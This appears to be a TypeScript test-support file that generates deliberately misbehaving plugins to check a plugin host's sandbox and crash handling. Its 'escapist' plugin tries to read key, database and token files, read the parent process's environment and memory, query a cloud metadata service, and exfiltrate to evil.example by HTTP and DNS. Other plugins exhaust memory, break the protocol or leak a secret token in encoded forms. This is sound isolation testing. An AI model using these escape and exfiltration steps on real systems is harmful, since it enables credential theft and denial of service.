import { join } from 'node:path';
import { manifestOf, writePackage } from '../support/plugin-packages.ts';

/** A plugin that was written to misbehave. It does so once for each cursor that begins with `fault`, and is well otherwise. */
export interface FaultyPlugin {
  readonly id: string;
  /** Body of a function `(context) => …`; what it returns is the answer's cursor. */
  readonly code: string;
  /** Runs when the package is imported. */
  readonly atStart?: string;
  readonly memoryLimitMb?: number;
  readonly egress?: readonly string[];
}

const settings = JSON.stringify({
  type: 'object',
  properties: {
    token: { type: 'string', title: 'Token', minLength: 1, 'x-wire': 'secret', 'x-fairlead-secret': true },
  },
  additionalProperties: false,
});

/** A whole package of it. @returns its folder */
export function writeFaultyPlugin(folder: string, plugin: FaultyPlugin): Promise<string> {
  const { id, memoryLimitMb = 160, egress = [] } = plugin;
  const manifest = { ...manifestOf(id), egress, host: { prefers: 'process', memoryLimitMb } };
  return writePackage(join(folder, 'plugins'), id, { manifest, settings, entry: entryOf(plugin) });
}

function entryOf({ id, code, atStart = '' }: FaultyPlugin): string {
  return `
import { definePlugin } from '@fairlead/sdk';
import fs from 'node:fs';
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function misbehave(context) { ${code} }
${atStart}
export default definePlugin({ id: '${id}', settings: ${settings} })({
  capabilities: {
    channel: (context) => ({
      async fetch({ cursor = '' }) {
        let answer = 'well ' + process.pid;
        // The working folder is its own, and outlives the process.
        if (cursor.startsWith('fault') && !fs.existsSync(cursor)) {
          fs.writeFileSync(cursor, '');
          console.log('About to misbehave');
          answer = String(await misbehave(context));
        }
        return { messages: [], cursor: answer, more: false };
      },
      testCredentials: async () => ({ account: { id: 'a' }, mode: 'test' }),
    }),
  },
});
`;
}

/** Prints as fast as it can. It is not read as fast, so what it prints fills its own memory. */
export const printStorm = {
  id: 'channel-print',
  causes: ['out_of_memory'],
  lastWords: /^line \d+ x/,
  code: `for (let i = 0; ; i += 1) { console.log('line ' + i + ' ' + 'x'.repeat(500)); if (i % 50 === 0) await later(0); }`,
} satisfies FaultyPlugin & Ending;

interface Ending {
  /** The causes that are true of it. */
  readonly causes: readonly string[];
  /** One of the last lines that it prints. Default: that it is about to misbehave. */
  readonly lastWords?: RegExp;
}

/** Those that end their process. */
export const endings: Readonly<Record<string, FaultyPlugin & Ending>> = {
  'a storm of printed lines': printStorm,
  'an infinite loop': { id: 'channel-loop', causes: ['hung'], code: 'await later(10); for (;;);' },
  'a slow leak of buffers': {
    id: 'channel-leak',
    causes: ['out_of_memory'],
    code: 'const kept = []; for (;;) { kept.push(Buffer.alloc(1_048_576, 1)); await later(20); }',
  },
  'a heap that is filled': {
    id: 'channel-heap',
    causes: ['out_of_memory'],
    code: 'const kept = []; for (;;) { for (let i = 0; i < 20_000; i += 1) kept.push({ i, text: "x" + i }); await later(1); }',
  },
  'a bomb of buffers': {
    id: 'channel-bomb',
    causes: ['out_of_memory'],
    code: 'const kept = []; for (let i = 0; i < 64; i += 1) kept.push(Buffer.alloc(67_108_864, 1)); await later(60_000);',
  },
  'process.exit': { id: 'channel-exit', causes: ['exited'], code: 'process.exit(7);' },
  'process.abort': { id: 'channel-abort', causes: ['crashed'], code: 'process.abort();' },
  'an answer of a gigabyte': {
    id: 'channel-giant',
    causes: ['out_of_memory'],
    // Put together and freed within a moment, it could escape the look that the hub takes four times a second.
    code: 'const answer = Buffer.alloc(2 ** 29 - 100, "x").toString("latin1"); await later(1_000); return answer;',
  },
  'a frame of a gigabyte': {
    id: 'channel-frame',
    causes: ['protocol_broken'],
    code: 'fs.writeSync(3, Buffer.from([0x40, 0, 0, 0])); for (;;) fs.writeSync(3, Buffer.alloc(65_536));',
  },
  'bytes that are no message': {
    id: 'channel-garbage',
    causes: ['protocol_broken'],
    code: 'fs.writeSync(3, Buffer.concat([Buffer.from([0, 0, 0, 9]), Buffer.from("not JSON!")])); await later(60_000);',
  },
  'a message that nobody knows': {
    id: 'channel-stranger',
    causes: ['protocol_broken'],
    code: `const text = '{"type":"__proto__","id":1,"__proto__":{"type":"result"}}';
      fs.writeSync(3, Buffer.concat([Buffer.from([0, 0, 0, text.length]), Buffer.from(text)])); await later(60_000);`,
  },
};

/** Errors that nothing catches, at every start anew: for quarantine. */
export const rejectionStorm: FaultyPlugin = {
  id: 'channel-storm',
  code: '',
  atStart: `setTimeout(() => { for (let i = 0; i < 1_000; i += 1) void Promise.reject(new Error('Storm ' + i)); }, 50);`,
};

/** Tries every way out, and answers with what came of each: the code of the error, or what it got. */
export const escapist: FaultyPlugin = {
  id: 'channel-escape',
  // It may reach one host, so that Node's own refusal is lifted and the hub's has to hold.
  egress: ['api.example.com'],
  code: `
    const { default: os } = await import('node:os');
    const [net, dns, dgram, http, child, workers] = await Promise.all(
      ['net', 'dns', 'dgram', 'http', 'child_process', 'worker_threads'].map((name) => import('node:' + name)));
    const outcome = {};
    const attempt = async (name, act) => {
      try { outcome[name] = 'done: ' + String(await act()).slice(0, 200); }
      catch (error) { outcome[name] = error.cause?.code ?? error.code ?? error.message; }
    };
    const event = (emitter, name) => new Promise((resolve, reject) => emitter.once('error', reject).once(name, resolve));
    const data = process.cwd() + '/../..';
    await attempt('fork', () => child.spawnSync('id').status);
    await attempt('exec', () => process.execve('/bin/true', []));
    await attempt('worker', () => new workers.Worker('1', { eval: true }));
    await attempt('read key', () => fs.readFileSync(data + '/master.key', 'utf8'));
    await attempt('read database', () => fs.readFileSync(data + '/fairlead.db'));
    await attempt('open database', () => new (process.getBuiltinModule('node:sqlite').DatabaseSync)(data + '/fairlead.db'));
    await attempt('read token', () => fs.readFileSync(data + '/cli.token', 'utf8'));
    await attempt('list folder', () => fs.readdirSync(data));
    await attempt('write beside', () => fs.writeFileSync(data + '/planted', ''));
    await attempt('change itself', () => fs.writeFileSync(new URL('index.js', import.meta.url), ''));
    await attempt('make link', () => fs.symlinkSync(data + '/master.key', 'key'));
    await attempt('environment of the hub', () => fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8'));
    await attempt('memory of the hub', () => fs.openSync('/proc/' + process.ppid + '/mem', 'r'));
    await attempt('signal the hub', () => process.kill(process.ppid, 'SIGTERM'));
    await attempt('debug the hub', () => process._debugProcess(process.ppid));
    await attempt('slow the hub', () => os.setPriority(process.ppid, 19));
    await attempt('tcp', () => event(net.connect(80, '93.184.216.34'), 'connect'));
    await attempt('metadata service', () => fetch('http://169.254.169.254/latest/meta-data/'));
    await attempt('the hub itself', () => event(http.get('http://127.0.0.1:7400/livez'), 'response'));
    await attempt('given client', () => context.http.fetch('https://evil.example/'));
    await attempt('dns', () => dns.promises.resolveTxt('stolen-words.evil.example'));
    await attempt('udp', () => new Promise((resolve, reject) =>
      dgram.createSocket('udp4').send('x', 53, '198.41.0.4', (error) => (error ? reject(error) : resolve('sent')))));
    await attempt('listen', () => event(net.createServer().listen(0), 'listening'));
    return JSON.stringify({ outcome, environment: process.env, argv: process.argv });
  `,
};

/** Prints its secret in every form, in pieces too, and ends with it in an error. */
export const babbler: FaultyPlugin = {
  id: 'channel-babble',
  code: `
    const secret = context.settings.token.reveal();
    const bytes = Buffer.from(secret);
    const forms = [secret, bytes.toString('base64'), bytes.toString('hex'), encodeURIComponent(secret), JSON.stringify(secret)];
    for (const form of forms) {
      console.log('Plain: ' + form);
      console.error({ form });
      const half = Math.floor(form.length / 2);
      process.stdout.write('Cut: ' + form.slice(0, half));
      await later(30);
      process.stdout.write(form.slice(half) + '\\n');
      context.log.info('Logged ' + form, { form });
    }
    await later(50);
    setTimeout(() => { throw new Error('Failed with ' + secret); });
    await later(60_000);
  `,
};
